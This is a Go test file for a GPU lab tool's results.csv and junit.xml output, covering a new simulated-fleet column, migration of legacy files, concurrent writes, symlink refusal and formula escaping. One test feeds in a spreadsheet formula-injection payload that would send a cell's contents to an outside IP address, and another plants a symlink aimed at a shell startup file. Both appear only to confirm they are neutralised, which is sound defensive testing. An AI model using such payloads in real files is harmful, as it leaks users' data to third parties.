package labs_test

import (
	"encoding/csv"
	"encoding/xml"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gpulab/gpulab/labs"
)

// legacyHeader is results.csv's header before the simulated column.
var legacyHeader = []string{"started", "lab", "host", "workload", "mode", "request", "throughput", "unit", "p50", "p95", "p99", "passed", "complete", "record"}

// reportRecord is a finished record of one lab on hosts, of a simulated
// fleet or not, started at minute i.
func reportRecord(i int, simulated bool, hosts ...string) *labs.Record {
	r := &labs.Record{Schema: labs.RecordSchema, Lab: "topology-sanity", Name: "Topology sanity", Simulated: simulated, Complete: true,
		Started: time.Date(2026, 11, 29, 10, i, 0, 0, time.UTC), Finished: time.Date(2026, 11, 29, 10, i, 30, 0, time.UTC)}
	for _, h := range hosts {
		r.Hosts = append(r.Hosts, labs.HostRecord{Host: h, Passed: true, Scores: []labs.Score{{ID: "nvlink-mesh", Status: "PASS", Summary: "ok"}}})
	}
	return r
}

// readCSV reads results.csv strictly: every row has the header's fields.
func readCSV(t *testing.T, path string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(readFile(t, path))).ReadAll()
	if err != nil {
		t.Fatalf("%s is not a CSV whose rows all have the header's fields: %v\n%s", path, err, readFile(t, path))
	}
	return rows
}

// results.csv says, in a column of its own after the others, whether each
// row's record is of a simulated fleet; the columns before it are those
// readers already take by position.
func TestResultsCSVSimulatedColumn(t *testing.T) {
	results := t.TempDir()
	csvPath := filepath.Join(results, "results.csv")
	for i, r := range []*labs.Record{reportRecord(0, true, "dgx01", "dgx02"), reportRecord(1, false, "gpu01")} {
		if err := r.Write(r.Dir(results), csvPath); err != nil {
			t.Fatalf("write record %d: %v", i, err)
		}
	}
	rows := readCSV(t, csvPath)
	if want := append(slices.Clone(legacyHeader), "simulated"); !slices.Equal(rows[0], want) {
		t.Errorf("header = %q, want %q", rows[0], want)
	}
	want := map[string]string{"dgx01": "true", "dgx02": "true", "gpu01": "false"}
	for _, row := range rows[1:] {
		if got := row[len(row)-1]; got != want[row[2]] {
			t.Errorf("%s: simulated = %q, want %q", row[2], got, want[row[2]])
		}
	}
	if len(rows) != 4 {
		t.Errorf("results.csv has %d rows, want the header and 3", len(rows))
	}
}

// A results.csv written before the simulated column gets it the first
// time a row is added: the header is brought up to date and every old row
// gets its record's answer (read from its record.json; empty when that is
// gone), so that every row has the header's fields.
func TestResultsCSVLegacyFileGetsTheColumn(t *testing.T) {
	results := t.TempDir()
	csvPath := filepath.Join(results, "results.csv")
	sim, notSim := reportRecord(0, true, "dgx01"), reportRecord(1, false, "gpu01")
	var legacy strings.Builder
	w := csv.NewWriter(&legacy)
	w.Write(legacyHeader)
	for _, r := range []*labs.Record{sim, notSim} {
		dir := r.Dir(results)
		if err := r.Write(dir, ""); err != nil {
			t.Fatal(err)
		}
		w.Write([]string{r.Started.Format(time.RFC3339), r.Lab, r.Hosts[0].Host, "", "", "", "", "", "", "", "", "true", "true", dir})
	}
	w.Write([]string{"2026-11-01T00:00:00Z", "gone", "gpu09", "", "", "", "", "", "", "", "", "true", "true", filepath.Join(results, "gone", "20261101-000000-gpu09")})
	w.Flush()
	writeTestFile(t, csvPath, legacy.String(), 0o640)

	next := reportRecord(2, true, "dgx02")
	if err := next.Write(next.Dir(results), csvPath); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, csvPath)
	if rows[0][len(rows[0])-1] != "simulated" || len(rows) != 5 {
		t.Fatalf("results.csv after the first new record:\n%s", readFile(t, csvPath))
	}
	for i, want := range []string{"true", "false", "", "true"} {
		if got := rows[i+1][len(rows[i+1])-1]; got != want {
			t.Errorf("row %d (%s): simulated = %q, want %q", i+1, rows[i+1][2], got, want)
		}
	}
	if st, err := os.Stat(csvPath); err != nil || st.Mode().Perm() != 0o640 {
		t.Errorf("results.csv mode after the update: %v, %v; want 0640 as it was", st.Mode(), err)
	}
	if left, _ := filepath.Glob(filepath.Join(results, ".*")); len(left) != 0 {
		t.Errorf("temporary files left: %v", left)
	}
}

// Runs that finish together on a results.csv written before the simulated
// column: it is brought up to date once, and no run's row is lost.
func TestResultsCSVLegacyFileParallelRuns(t *testing.T) {
	results := t.TempDir()
	csvPath := filepath.Join(results, "results.csv")
	writeTestFile(t, csvPath, strings.Join(legacyHeader, ",")+"\n", 0o644)
	var wg sync.WaitGroup
	errs := make([]error, 8)
	for i := range errs {
		wg.Add(1)
		go func() {
			defer wg.Done()
			r := reportRecord(i, i%2 == 0, fmt.Sprintf("dgx%02d", i+1))
			errs[i] = r.Write(r.Dir(results), csvPath)
		}()
	}
	wg.Wait()
	for i, err := range errs {
		if err != nil {
			t.Errorf("run %d: %v", i, err)
		}
	}
	rows := readCSV(t, csvPath)
	if len(rows) != 9 || rows[0][len(rows[0])-1] != "simulated" {
		t.Fatalf("results.csv has %d rows, want the header (with simulated) and 8:\n%s", len(rows), readFile(t, csvPath))
	}
	for _, row := range rows[1:] {
		var n int
		fmt.Sscanf(row[2], "dgx%d", &n)
		if want := fmt.Sprint((n-1)%2 == 0); row[len(row)-1] != want {
			t.Errorf("%s: simulated = %q, want %q", row[2], row[len(row)-1], want)
		}
	}
}

// junit.xml of a simulated fleet's run says so where CI shows it: each
// suite's name, and a simulated property.
func TestJUnitSaysSimulated(t *testing.T) {
	type suites struct {
		Name   string `xml:"name,attr"`
		Suites []struct {
			Name       string `xml:"name,attr"`
			Properties []struct {
				Name  string `xml:"name,attr"`
				Value string `xml:"value,attr"`
			} `xml:"properties>property"`
		} `xml:"testsuite"`
	}
	for _, simulated := range []bool{true, false} {
		x, err := reportRecord(0, simulated, "dgx01", "dgx02").JUnit()
		if err != nil {
			t.Fatal(err)
		}
		var s suites
		if err := xml.Unmarshal(x, &s); err != nil || len(s.Suites) != 2 {
			t.Fatalf("junit.xml: %v\n%s", err, x)
		}
		if !simulated && strings.Contains(string(x), "<properties") {
			t.Errorf("a real fleet's junit.xml has properties:\n%s", x)
		}
		if got := strings.Contains(s.Name, "SIMULATED"); got != simulated {
			t.Errorf("simulated %v: testsuites name %q", simulated, s.Name)
		}
		for _, suite := range s.Suites {
			prop := false
			for _, p := range suite.Properties {
				prop = prop || p.Name == "simulated" && p.Value == "true"
			}
			if strings.Contains(suite.Name, "SIMULATED") != simulated || prop != simulated {
				t.Errorf("simulated %v: suite %q, simulated property %v\n%s", simulated, suite.Name, prop, x)
			}
		}
	}
}

func writeTestFile(t *testing.T, path, content string, mode os.FileMode) {
	t.Helper()
	if err := os.WriteFile(path, []byte(content), mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(path, mode); err != nil { // past the umask
		t.Fatal(err)
	}
}

// results.csv that is a link (planted by whoever could write the results
// directory) is refused: nothing is appended to what it points at. A
// results directory others can write is refused before a record is made.
func TestResultsCSVRefusesLinksAndOpenDirectories(t *testing.T) {
	results := t.TempDir()
	target := filepath.Join(t.TempDir(), "bashrc")
	if err := os.WriteFile(target, []byte("# the operator's shell startup file\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	csvPath := filepath.Join(results, "results.csv")
	if err := os.Symlink(target, csvPath); err != nil {
		t.Fatal(err)
	}
	r := reportRecord(0, true, "dgx01")
	err := r.Write(r.Dir(results), csvPath)
	if err == nil || !strings.Contains(err.Error(), "a symbolic link: gpulab writes no file through a link; refused, nothing written") {
		t.Errorf("results.csv a link: %v", err)
	}
	if got := readFile(t, target); got != "# the operator's shell startup file\n" {
		t.Errorf("the link's target was written:\n%s", got)
	}
	open := filepath.Join(t.TempDir(), "shared-results")
	if err := os.Mkdir(open, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(open, 0o777); err != nil {
		t.Fatal(err)
	}
	if _, err := r.CreateDir(open); err == nil || !strings.Contains(err.Error(), open+" is a directory writable by others") {
		t.Errorf("a results directory others can write: %v", err)
	}
	if err := r.Write(filepath.Join(results, "rec"), filepath.Join(open, "results.csv")); err == nil || !strings.Contains(err.Error(), "chmod go-w "+open) {
		t.Errorf("results.csv in a directory others can write: %v", err)
	}
}

// A cell a spreadsheet would run as a formula is written with a ' before
// it; a number stays a number.
func TestResultsCSVNeutralisesFormulas(t *testing.T) {
	results := t.TempDir()
	csvPath := filepath.Join(results, "results.csv")
	r := reportRecord(0, false, "@dgx01", "-dgx02")
	r.Result = labs.ResultRow{Workload: `=HYPERLINK("http://198.51.100.7/?"&A1,"ok")`, Mode: "+x", Request: "\tcmd", Unit: "-1.5", Throughput: "tps"}
	r.Hosts[0].Metrics = map[string]any{"tps": -3.5}
	if err := r.Write(r.Dir(results), csvPath); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, csvPath)
	row := rows[1]
	for i, want := range map[int]string{2: "'@dgx01", 3: `'=HYPERLINK("http://198.51.100.7/?"&A1,"ok")`, 4: "'+x", 5: "'\tcmd", 6: "-3.5", 7: "-1.5"} {
		if row[i] != want {
			t.Errorf("%s = %q, want %q", rows[0][i], row[i], want)
		}
	}
	if rows[2][2] != "'-dgx02" {
		t.Errorf("host -dgx02 written as %q", rows[2][2])
	}
}
